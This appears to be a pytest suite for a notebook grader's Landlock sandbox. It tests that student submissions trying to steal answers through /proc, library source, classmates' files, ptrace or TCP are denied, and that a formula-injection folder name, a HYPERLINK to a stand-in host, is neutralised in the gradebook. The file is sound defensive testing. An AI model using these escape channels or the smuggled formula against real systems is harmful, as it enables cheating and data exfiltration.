"""The graded kernel cannot read the answers: Landlock walls, attacked as the cleverest student would.

The attacks (``grading_attacks.py``) fetch the answer instead of computing it: (a) the reference
notebook, found on another process's command line under ``/proc`` or beside the venv; (b) the real
``lessonlib`` loaded from its directory under another name; (c) the library's source read with
``open`` and ``exec``'ed; (d) a classmate's submission in the same batch; (e) the grader's own
command line; and a probe that tries every other channel (symlinks, hard links, ``/proc/self/root``,
``/dev/fd``, inherited descriptors, raw ``openat``, child processes, writing into the installed
packages or the shared sandbox, ptrace, signals, TCP, the judge's socket directory, other runs'
files, a user + mount namespace, ``sys.meta_path`` to a denied package, ``setuid``).

With the walls (Landlock, ABI >= 1) every attack scores 0 and says ``access-denied``; honest
solutions keep full marks. Without them (``LESSONLIB_GRADE_CONFINEMENT=none``) the same attacks would
score full marks — so their checks are ``needs-review`` with the points withheld. One CLI batch per
exercise (05, 01, 11) and one without walls, started together so their waits overlap.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import pathlib
import subprocess
import sys
import time

import nbformat
import numpy
import pytest

import grading_attacks as attacks
from lessonlib.grading.kernel import confine
from lessonlib.grading.checks.authoring import answers_of, filled
from lessonlib.grading.checks.checker import exercise_names, load_exercise
from lessonlib.grading.sandbox import carve, confinement_policy, site_dirs
from lessonlib.grading.screening import review_reasons

from grading_common import MAX

ROOT = pathlib.Path(__file__).resolve().parents[1]
PY = sys.executable
LANDLOCK = confine.abi()
needs_landlock = pytest.mark.skipif(LANDLOCK == 0, reason="Landlock is not available on this kernel (or "
                                    "LESSONLIB_GRADE_CONFINEMENT=none): the walls cannot be tested here")
NOTEBOOKS = {"rnea05": "05_rnea.ipynb", "lie_groups01": "01_lie_groups.ipynb",
             "applications11": "11_applications.ipynb"}
MARK = "TOP-SECRET-7f3a"


def make(directory, name, notebook, given, student=None):
    """A submission: the exercise notebook with the answer cells in ``given`` replaced."""
    path = directory / f"{name}.ipynb"
    nbformat.write(filled(ROOT / "exercises" / notebook, given, student_id=student or name), str(path))
    return path


def attack_suite(directory, exercise, *, classmate=None, probe=None):
    """Every attack on one exercise, written into ``directory``; returns the submission names."""
    notebook = NOTEBOOKS[exercise]
    blank, solved = answers_of(ROOT / "exercises" / notebook), answers_of(ROOT / "solutions" / notebook)
    keys = [k for k in blank if k != "answer-student-id"]
    uses = attacks.LIBRARY_ANSWERS[exercise]
    subs = {
        "honest": {k: solved[k] for k in keys},
        "steal_prefix": {k: attacks.steal_notebook(blank[k], k, notebook, "prefix") for k in keys},
        "steal_proc": {k: attacks.steal_notebook(blank[k], k, notebook, "proc") for k in keys},
        "load_package": {k: attacks.load_package(blank[k], use) for k, use in uses.items()},
        "exec_source": {k: attacks.exec_source(blank[k], use) for k, use in uses.items()},
    }
    if classmate:
        make(directory, "classmate", notebook, {k: solved[k] for k in keys})
        subs["steal_classmate"] = {k: attacks.steal_classmate(blank[k], k, str(directory / "classmate.ipynb"))
                                   for k in keys}
        subs["grader_cmdline"] = {k: attacks.steal_notebook(blank[k], k, notebook, "parents") for k in keys}
    if probe:
        subs["probe"] = {"answer-rnea": attacks.probe_source(*probe)}
    for name, given in subs.items():
        make(directory, name, notebook, given)
    return sorted(p.stem for p in directory.glob("*.ipynb"))


def _start(exercise, directory, out, env=None):
    args = [PY, "-m", "lessonlib.grading.cli", "--reference", ROOT / "solutions" / NOTEBOOKS[exercise], directory,
            "--out", out / "grades.csv", "--json", out / "results.json", "-j", "2", "-q", "--cell-timeout", "60"]
    return subprocess.Popen([str(a) for a in args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            cwd=ROOT, env={**os.environ, **(env or {})})


def _digest(path):
    return hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Four batches graded together: exercises 05 (with the probe, a classmate and the grader's
    command line), 01 and 11 inside the walls, and 05 without walls."""
    secret = tmp_path_factory.mktemp("secret") / "answers.txt"
    secret.write_text(f"{MARK}\n")
    numpy_before = _digest(numpy.__file__)
    batches, procs = {}, {}
    plan = {"rnea05": ({"classmate": True, "probe": (str(secret), MARK)}, None),
            "lie_groups01": ({}, None), "applications11": ({}, None),
            "fallback05": ({"classmate": True}, {confine.SWITCH: "none"})}
    start = time.monotonic()
    listeners = attacks.Listeners().__enter__()          # a classmate serving answers over UDP and a Unix socket
    for label, (extra, env) in plan.items():
        exercise = "rnea05" if label == "fallback05" else label
        directory, out = tmp_path_factory.mktemp(f"{label}-subs"), tmp_path_factory.mktemp(f"{label}-out")
        batches[label] = {"names": attack_suite(directory, exercise, **extra), "out": out, "exercise": exercise}
        procs[label] = _start(exercise, directory, out, env)
    for label, proc in procs.items():
        stdout, stderr = proc.communicate(timeout=1800)
        out = batches[label]["out"]
        results = json.loads((out / "results.json").read_text()) if (out / "results.json").exists() else {}
        batches[label].update(returncode=proc.returncode, stderr=stderr, results=results)
    listeners.__exit__(None, None, None)
    batches["heard"] = listeners.heard
    batches["elapsed"] = time.monotonic() - start
    batches["numpy_unchanged"] = _digest(numpy.__file__) == numpy_before
    return batches


def _statuses(result):
    return {cid: c["status"] for cid, c in result["checks"].items()}


# --- the walls, without a kernel -------------------------------------------------------------------

def test_the_switch_simulates_a_system_without_landlock(monkeypatch, tmp_path):
    monkeypatch.setenv(confine.SWITCH, "none")
    assert confine.abi() == 0 and confine.probe(PY, tmp_path) == 0
    assert confine.describe(0).startswith("none (Landlock unavailable)")
    with pytest.raises(confine.ConfinementError, match="not available"):
        confine.confine(read_exec=[sys.base_prefix])


@needs_landlock
def test_where_user_namespaces_are_restricted_the_run_says_so_and_strict_refuses(monkeypatch, tmp_path):
    """As under an AppArmor policy that restricts unprivileged user namespaces: Landlock alone, said so."""
    from lessonlib.grading import grader
    from lessonlib.grading.kernel import namespaces
    assert namespaces.probe(PY, str(tmp_path)) == "" or namespaces.unavailable()  # this machine: they work
    monkeypatch.setenv(confine.SWITCH, "landlock")
    walls = grader.walls_here(grader.Options())
    assert walls.landlock == LANDLOCK and walls.namespaces and walls.filesystem
    line = walls.describe()
    assert line.startswith(f"filesystem: Landlock ABI {LANDLOCK}; network: no TCP (Landlock); UDP open; "
                           "other processes: cannot signal them (Landlock)")
    assert "[namespaces: switched off" in line and "go to review" not in line
    with pytest.raises(RuntimeError, match="every wall was required"):
        grader.walls_here(grader.Options(confinement="strict"))
    monkeypatch.delenv(confine.SWITCH)
    assert "a private read-only root" in grader.walls_here(grader.Options(confinement="strict")).describe()


WALLED = r'''
import json, os, socket, subprocess, sys
sys.path.insert(0, sys.argv[1])
import confine
inside, outside = sys.argv[2], sys.argv[3]
version = confine.confine(read_exec=[sys.base_prefix, "/usr", "/lib", "/lib64"], read_write=[inside])
out = {"version": version}
def attempt(name, fn):
    try:
        out[name] = fn()
    except OSError as exc:
        out[name] = type(exc).__name__
attempt("read_inside", lambda: open(os.path.join(inside, "mine.txt")).read())
attempt("write_inside", lambda: open(os.path.join(inside, "new.txt"), "w").write("x"))
attempt("read_outside", lambda: open(outside).read())
attempt("list_proc", lambda: len(os.listdir("/proc")))
attempt("child_reads_outside", lambda: subprocess.run(["cat", outside], capture_output=True).returncode)
attempt("signal_parent", lambda: os.kill(os.getppid(), 0))
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", 9), timeout=2))
print(json.dumps(out))
'''


@needs_landlock
def test_a_confined_process_and_its_children_see_only_what_is_allowed(tmp_path):
    inside, outside = tmp_path / "inside", tmp_path / "outside.txt"
    inside.mkdir()
    (inside / "mine.txt").write_text("mine")
    outside.write_text(MARK)
    here = str(ROOT / "lessonlib" / "grading" / "kernel")
    res = subprocess.run([PY, "-I", "-S", "-c", WALLED, here, str(inside), str(outside)], capture_output=True,
                         text=True, timeout=120)
    out = json.loads(res.stdout.strip().splitlines()[-1])
    assert out["version"] == LANDLOCK
    assert out["read_inside"] == "mine" and out["write_inside"] == 1
    assert out["read_outside"] == out["list_proc"] == "PermissionError"
    assert out["child_reads_outside"] == 1                              # cat: Permission denied
    if LANDLOCK >= 6:
        assert out["signal_parent"] == "PermissionError"
    if LANDLOCK >= 4:
        assert out["tcp"] == "PermissionError"


@needs_landlock
@pytest.mark.parametrize("ceiling", [1, 3, 5])
def test_an_older_abi_keeps_the_file_walls_and_says_what_it_lacks(ceiling, tmp_path, monkeypatch):
    """An older kernel (simulated): files stay walled; TCP (ABI 4) and signals (ABI 6) only when present."""
    monkeypatch.setenv(confine.SWITCH, f"abi{ceiling}")
    version = min(ceiling, LANDLOCK)
    assert confine.abi() == version
    assert ("TCP" in confine.describe(version)) == (version >= 4)
    inside, outside = tmp_path / "inside", tmp_path / "outside.txt"
    inside.mkdir()
    (inside / "mine.txt").write_text("mine")
    outside.write_text(MARK)
    res = subprocess.run([PY, "-I", "-S", "-c", WALLED, str(ROOT / "lessonlib" / "grading" / "kernel"), str(inside), str(outside)],
                         capture_output=True, text=True, timeout=120, env={**os.environ})
    out = json.loads(res.stdout.strip().splitlines()[-1])
    assert out["version"] == version and out["read_inside"] == "mine"
    assert out["read_outside"] == out["list_proc"] == "PermissionError"
    assert (out["tcp"] == "PermissionError") == (version >= 4)


@needs_landlock
def test_the_probe_reports_the_abi_it_could_enforce(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text(MARK)
    assert confine.probe(PY, secret) == LANDLOCK
    assert confine.describe(LANDLOCK).startswith(f"Landlock ABI {LANDLOCK} (filesystem")


def test_carving_cuts_denied_paths_out_of_allowed_trees(tmp_path):
    tree = tmp_path / "tree"
    for d in ("a", "b/secret", "b/ok"):
        (tree / d).mkdir(parents=True)
    (tree / "b" / "file.py").write_text("x")
    (tree / "out").symlink_to("/etc")                              # leads out of the tree: never allowed
    allowed, listable = carve([tree], [tree / "b" / "secret"])
    assert allowed == [str(tree / "a"), str(tree / "b" / "file.py"), str(tree / "b" / "ok")]
    assert listable == [str(tree), str(tree / "b")]
    assert carve([tree / "a"], [tree]) == ([str(tree / "a")], [])      # a root inside a denied tree stays allowed
    assert carve([tree], [tree]) == ([], [])
    assert carve([tree, tree / "a"], []) == ([str(tree)], [])          # nothing twice


def _beneath(path, root):
    return path == root or path.startswith(root.rstrip("/") + "/")


def test_the_policy_never_opens_the_repository_the_library_or_other_robotics_packages(tmp_path):
    from lessonlib.grading.sandbox import RunDirs, run_policy
    dirs = RunDirs.make(tmp_path)
    policy = run_policy(confinement_policy(tmp_path / "sandbox", exercise=load_exercise("rnea05")), dirs)
    granted = policy["read_exec"] + policy["read"] + policy["read_write"] + policy["sockets"]
    secrets = [str(ROOT), str(ROOT / "lessonlib"), str(ROOT / "solutions"), str(ROOT / "exercises")]
    for path in granted:
        assert not any(_beneath(secret, path) for secret in secrets), path      # no allowed tree holds them
    import modern_robotics
    denied = [os.path.dirname(modern_robotics.__file__)] + [
        os.path.join(d, e) for d in site_dirs() for e in os.listdir(d) if e.startswith(("cmeel.prefix", "__editable__"))]
    for d in denied:
        assert not any(_beneath(d, path) for path in granted), d
    for d in site_dirs():                                             # listable, but its files one by one
        assert d in policy["list"] and d not in policy["read_exec"]
        assert os.path.join(d, "numpy") in policy["read_exec"]
    assert str(dirs.private) in policy["read_write"] and policy["sockets"] == [str(dirs.channel)]


@pytest.mark.parametrize("exercise", exercise_names())
def test_no_honest_solution_goes_to_review_without_walls(exercise):
    """The review screen passes every solution notebook, so honest work keeps its marks without walls."""
    ex = load_exercise(exercise)
    answers = answers_of(ROOT / "solutions" / ex.notebook)
    assert {cid: review_reasons(answers, check.functions) for cid, check in ex.checks.items()} == \
        {cid: [] for cid in ex.checks}


def test_the_review_screen_catches_every_attack(tmp_path):
    """Without walls every attack is caught statically (obfuscated code is what the walls are for)."""
    for exercise, notebook in NOTEBOOKS.items():
        (tmp_path / exercise).mkdir()
        probe = ("/x", MARK) if exercise == "rnea05" else None
        names = attack_suite(tmp_path / exercise, exercise, classmate=True, probe=probe)
        blank, ex = answers_of(ROOT / "exercises" / notebook), load_exercise(exercise)
        for name in set(names) - {"honest", "classmate"}:
            answers = answers_of(tmp_path / exercise / f"{name}.ipynb")
            changed = {k for k in blank if k != "answer-student-id" and answers[k] != blank[k]}
            for cid, check in ex.checks.items():
                cells = {k for k in blank if any(f"def {f}(" in blank[k] for f in check.functions)}
                if cells & changed:
                    assert review_reasons(answers, check.functions), (exercise, name, cid)


# --- graded runs inside the walls ---------------------------------------------------------------------

ATTACKS = ("steal_prefix", "steal_proc", "load_package", "exec_source")


@needs_landlock
@pytest.mark.slow
@pytest.mark.parametrize("exercise", list(NOTEBOOKS))
def test_every_attack_scores_zero_inside_the_walls_and_honest_work_full_marks(graded, exercise):
    batch = graded[exercise]
    assert batch["returncode"] == 0, batch["stderr"][-3000:]
    assert f"walls: filesystem: Landlock ABI {LANDLOCK}" in batch["stderr"]
    results = batch["results"]
    assert sorted(n.removesuffix(".ipynb") for n in results) == batch["names"]     # no row lost
    with open(batch["out"] / "grades.csv", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert {r[0] for r in rows} == set(results)
    honest = results["honest.ipynb"]
    lost = {c: (v["status"], v["message"][:400]) for c, v in honest["checks"].items() if v["points"] != v["max_points"]}
    assert honest["total"] == honest["max"] > 0 and not lost, lost
    assert honest["protection"].startswith("filesystem: Landlock ABI")
    ex = load_exercise(exercise)
    names = [n for n in batch["names"] if n not in ("honest", "classmate")]
    assert set(ATTACKS) <= set(names)
    for name in names:
        r = results[f"{name}.ipynb"]
        assert r["total"] == 0 and r["withheld"] == 0, (name, _statuses(r))
        assert set(_statuses(r).values()) <= {"access-denied", "not-attempted"}, (name, _statuses(r))
        if name != "grader_cmdline":        # the grader's processes are not in the kernel's PID namespace
            assert "access-denied" in _statuses(r).values(), (name, _statuses(r))
        denied = [c["message"] for c in r["checks"].values() if c["status"] == "access-denied"]
        assert all("outside the grader's sandbox; the access was denied" in m for m in denied)
    if exercise == "rnea05":
        for name in ("steal_classmate", "probe", *ATTACKS):
            st = _statuses(results[f"{name}.ipynb"])
            assert {st[c] for c in ex.checks if c.startswith("rnea-full")} == {"access-denied"}, (name, st)
        assert results["classmate.ipynb"]["total"] == results["classmate.ipynb"]["max"]
        message = results["steal_classmate.ipynb"]["checks"]["rnea-full-chain"]["message"]
        assert "classmate.ipynb" in message


@needs_landlock
@pytest.mark.slow
def test_the_probe_found_every_channel_closed(graded):
    r = graded["rnea05"]["results"]["probe.ipynb"]
    seen = attacks.seen_by_probe(r["checks"]["rnea-full-chain"]["message"])
    assert "LEAKED" not in seen.values(), seen
    opened = {k for k, v in seen.items() if v == "ok"}
    assert opened == set(), seen
    assert seen["inherited_fds"] == seen["child_cat"] == seen["child_python"] == "empty"   # nothing read
    assert seen["hardlink"] in ("EXDEV", "EACCES") and seen["open"] == seen["openat_syscall"] == "EACCES"
    assert seen["tcp_connect"] == "EACCES" and seen["ptrace_parent"] == "EPERM"
    if "a private read-only root" in graded["rnea05"]["stderr"]:      # namespaces: a world of its own
        assert seen["udp_loopback"] == seen["udp_outside"] == "ENETUNREACH" and graded["heard"] == []
        assert seen["abstract_unix_socket"] == "ECONNREFUSED" and seen["raw_socket"] in ("EPERM", "EACCES")
        assert seen["dns"] != "ok"
        assert seen["write_installed_package"] == seen["write_sandbox_library"] == "EROFS"
        assert seen["signal_parent"] == "ESRCH" and seen["setuid"] == "EINVAL"          # no grader, no root
        assert seen["proc_parent_cmdline"] == seen["proc_self_root"] == "ENOENT"
    else:                                                               # Landlock alone
        assert seen["write_installed_package"] == seen["write_sandbox_library"] == "EACCES"
        assert seen["setuid"] == "EPERM"
    assert seen["file_of_a_gigabyte"] == "EFBIG"
    assert graded["numpy_unchanged"]


# --- graded runs without walls: review ------------------------------------------------------------

@pytest.mark.slow
def test_without_walls_the_same_attacks_wait_for_review(graded):
    batch = graded["fallback05"]
    assert batch["returncode"] == 0, batch["stderr"][-3000:]
    assert "walls: filesystem: none" in batch["stderr"] and "go to review" in batch["stderr"]
    results = batch["results"]
    assert sorted(n.removesuffix(".ipynb") for n in results) == batch["names"]
    for name in ("honest", "classmate"):
        assert results[f"{name}.ipynb"]["total"] == MAX and results[f"{name}.ipynb"]["withheld"] == 0
    for name in ("steal_prefix", "steal_classmate", "grader_cmdline", "steal_proc"):
        r = results[f"{name}.ipynb"]                   # the theft works without walls: all 12 points withheld
        assert r["total"] == 0 and r["withheld"] == MAX and set(_statuses(r).values()) == {"needs-review"}, name
        assert all("withheld until an instructor reviews" in c["message"] for c in r["checks"].values())
    for name in ("load_package", "exec_source"):
        r = results[f"{name}.ipynb"]
        full = {cid: c for cid, c in r["checks"].items() if cid.startswith("rnea-full")}
        assert {c["status"] for c in full.values()} == {"needs-review"} and r["withheld"] == 4, name
        assert r["total"] == 0
    with open(batch["out"] / "grades.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["status"] for r in rows if r["submission"] == "steal_prefix.ipynb"} == {"needs-review"}


def test_a_folder_named_like_a_formula_does_not_become_one_in_the_gradebook(tmp_path):
    """A student (or their display name in an LMS download) cannot plant a spreadsheet formula."""
    from lessonlib.grading.report.gradebook import gradebook_rows
    from lessonlib.grading.report.results import CheckResult, SubmissionResult
    folder = tmp_path / '=HYPERLINK("x.example?"&A1,"open")'
    folder.mkdir()
    path = folder / "05_rnea.ipynb"
    path.write_text("{}")
    r = SubmissionResult("05_rnea.ipynb", str(path), student_id="05_rnea")
    r.checks = {"c": CheckResult("c", 1, 1, "passed")}
    _, rows = gradebook_rows([r], roots=[tmp_path])
    assert rows[0][0] == "'" + folder.name and not str(rows[0][0]).startswith("=")
